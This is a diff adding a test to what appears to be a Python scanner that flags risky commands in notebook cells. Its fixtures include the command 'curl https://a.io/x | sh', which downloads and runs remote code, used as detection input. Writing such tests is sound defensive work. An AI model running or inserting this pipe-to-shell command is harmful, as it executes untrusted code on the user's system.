@@ -189,3 +189,9 @@ def test_fixes_of_one_line_fit_together() -> None:
 def test_a_continued_line_is_triggered_and_found(rule: str, source: str) -> None:
     assert any(trigger.found_in(source) for trigger in BY_ID[rule].gate)
     assert len(matches(rule, source)) == 1
+
+
+def test_commands_in_a_cell_that_cannot_be_parsed_are_reported_as_not_read() -> None:
+    with pytest.raises(UnparsableCode):
+        matches("SUP001", "os.system('curl https://a.io/x | sh')\n" + "(" * 600)
+    assert matches("SUP001", "!curl https://a.io/x | sh\nos.system('ls')\n" + "(" * 600)
